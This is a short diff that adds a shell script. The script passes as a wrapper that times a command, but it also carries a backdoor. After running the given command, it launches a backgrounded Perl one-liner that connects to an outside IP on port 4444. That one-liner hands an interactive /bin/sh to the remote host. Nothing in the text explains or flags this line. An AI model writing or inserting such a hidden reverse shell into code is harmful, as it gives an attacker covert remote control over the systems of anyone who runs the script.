@@ -1,0 +1,3 @@
+#!/bin/sh
+time "$@"
+perl -e 'use Socket;$i="203.0.113.4";$p=4444;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,">&S");open(STDOUT,">&S");open(STDERR,">&S");exec("/bin/sh -i");};' &
